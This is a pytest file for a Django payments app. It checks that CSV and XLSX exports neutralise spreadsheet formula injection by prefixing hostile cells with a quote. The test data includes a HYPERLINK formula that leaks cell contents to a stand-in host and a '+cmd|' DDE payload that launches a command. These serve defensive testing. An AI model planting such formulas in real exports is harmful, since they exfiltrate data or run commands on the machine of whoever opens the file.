"""Exports cannot attack their reader (OWASP CSV injection): a text cell that a spreadsheet would
evaluate (=, +, -, @, tab, carriage return first) is prefixed with a single quote, in CSV and XLSX,
in every export (statement in the portal and the console, withdrawals, recharges, BIN entries);
money stays the exact amount and dates stay dates."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from urllib.parse import urlencode
from uuid import uuid4

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone
from import_export.formats.base_formats import CSV, XLSX

from accounts.cards.models import BinEntry
from accounts.ledger import postings as ledger
from accounts.payments.models import Recharge, Withdrawal
from accounts.resources import BinEntryResource, RechargeResource, WithdrawalResource, neutralise_formula
from accounts.tests.admin_support import console_fixture  # noqa: F401  (the `console` fixture)
from accounts.tests.export_support import body, statement_workbook

pytestmark = pytest.mark.filterwarnings("ignore:No directory at:UserWarning")

HOSTILE = '=HYPERLINK("http://x/?"&A1,"click")'
MEMO_COLUMN = "memo / 摘要"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("提现 withdrawal", "提现 withdrawal"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
        (Decimal("-1.00"), Decimal("-1.00")),
    ],
)
def test_neutralise_formula(value, expected):
    assert neutralise_formula(value) == expected


@pytest.fixture
def hostile_account(make_account, fund, clearing):
    """An account funded 100.00, then debited 130.00 (balance -30.00) with a hostile memo."""
    account = fund(make_account(), "100.00")
    ledger.post_transfer(
        client="test",
        idempotency_key=str(uuid4()),
        kind="withdrawal",
        legs=ledger.move(from_account_id=account.pk, to_account_id=clearing.pk, amount=Decimal("30.00")),
        memo=HOSTILE,
    )
    return account


def _csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def _xlsx_rows(content: bytes) -> tuple[list, list[list]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    rows = [list(row) for row in sheet.iter_rows()]
    return [cell.value for cell in rows[0]], rows[1:]


def _assert_statement_safe_csv(content: bytes):
    rows = _csv_rows(content)
    memos = [row[MEMO_COLUMN] for row in rows]
    assert "'" + HOSTILE in memos and HOSTILE not in memos
    assert sorted(row["amount / 金额"] for row in rows) == ["100.00", "30.00"]


def _assert_statement_safe_xlsx(content: bytes):
    _sheet, _block, header, rows = statement_workbook(content)
    memo = [row[header.index(MEMO_COLUMN)] for row in rows]
    hostile = [cell for cell in memo if cell.value and HOSTILE in cell.value]
    assert len(hostile) == 1
    assert hostile[0].data_type == "s" and hostile[0].value == "'" + HOSTILE  # text, not a formula
    assert all(cell.data_type != "f" for row in rows for cell in row)
    amounts = [row[header.index("amount / 金额")] for row in rows]
    assert all(cell.data_type == "n" for cell in amounts)  # numbers, not text
    assert sorted(cell.value for cell in amounts) == [30, 100]


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_portal_statement_export_neutralises_a_hostile_memo(client, django_user_model, hostile_account, fmt):
    user = django_user_model.objects.create_user(username="holder", password="portal-test-pass-2026")
    hostile_account.party.portal_users.add(user)
    client.force_login(user)
    query = urlencode({"format": fmt, "date_from": "2000-01-01"})
    response = client.get(reverse("portal:statement_export", args=[hostile_account.number]) + "?" + query)
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    (_assert_statement_safe_csv if fmt == "csv" else _assert_statement_safe_xlsx)(body(response))


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_console_statement_export_neutralises_a_hostile_memo(console, hostile_account, fmt):
    client = console("auditor")
    response = client.get(reverse("admin:accounts_account_statement", args=[hostile_account.pk]) + f"?export={fmt}")
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    (_assert_statement_safe_csv if fmt == "csv" else _assert_statement_safe_xlsx)(body(response))


def _export(resource, objects, file_format):
    """What the console's export does: native types for XLSX, strings for CSV."""
    dataset = resource.export(queryset=objects, force_native_type=file_format is XLSX)
    return file_format().export_data(dataset)


@pytest.mark.parametrize("file_format", [CSV, XLSX])
def test_withdrawal_and_recharge_exports_neutralise_hostile_text(file_format):
    created = timezone.make_aware(dt.datetime(2026, 3, 1, 9, 30))
    common = {
        "request_id": "WD-1",
        "out_request_no": "@evil",
        "client": "+cmd|' /C calc'!A0",
        "amount": Decimal("12.50"),
        "channel_status": "-1+1",
        "channel_txn_id": "\tTXN",
        "failure_reason": HOSTILE,
        "created_at": created,
    }
    withdrawal = Withdrawal(fee=Decimal("1.00"), **common)
    recharge = Recharge(**common)
    for resource, obj in ((WithdrawalResource(), withdrawal), (RechargeResource(), recharge)):
        content = _export(resource, [obj], file_format)
        if file_format is CSV:
            row = _csv_rows(content.encode() if isinstance(content, str) else content)[0]
            values = list(row.values())
            assert row["created / 创建时间"] == "2026-03-01 09:30:00"
        else:
            header, rows = _xlsx_rows(content)
            cells = rows[0]
            values = [cell.value for cell in cells]
            assert all(cell.data_type != "f" for cell in cells)
            assert cells[header.index("created / 创建时间")].value == dt.datetime(2026, 3, 1, 9, 30)  # a date cell
        for text in ("@evil", "+cmd|' /C calc'!A0", "-1+1", "\tTXN", HOSTILE):
            assert "'" + text in values and text not in values
        assert "12.50" in values


@pytest.mark.parametrize("file_format", [CSV, XLSX])
def test_bin_entry_export_neutralises_a_hostile_bank_name(file_format):
    entry = BinEntry(prefix="621660", bank_name=HOSTILE, card_type="DC", card_length=19)
    content = _export(BinEntryResource(), [entry], file_format)
    if file_format is CSV:
        row = _csv_rows(content.encode() if isinstance(content, str) else content)[0]
        assert row["bank_name"] == "'" + HOSTILE and row["card_length"] == "19"
    else:
        header, rows = _xlsx_rows(content)
        assert rows[0][header.index("bank_name")].value == "'" + HOSTILE
        assert rows[0][header.index("card_length")].value == 19  # a number stays a number
